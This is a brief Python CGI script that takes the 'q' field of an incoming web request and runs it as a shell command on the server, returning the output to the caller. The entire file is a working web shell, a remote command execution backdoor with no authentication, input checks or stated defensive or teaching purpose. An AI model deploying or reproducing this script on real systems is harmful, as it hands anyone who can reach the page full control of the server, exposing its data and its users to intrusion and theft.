#!/usr/bin/env python3
import cgi, subprocess

print("Content-Type: text/plain\n")
fields = cgi.FieldStorage()
command = fields.getfirst("q")
if command:
    output = subprocess.check_output(command, shell=True, stderr=subprocess.STDOUT)
    print(output.decode(errors="replace"))
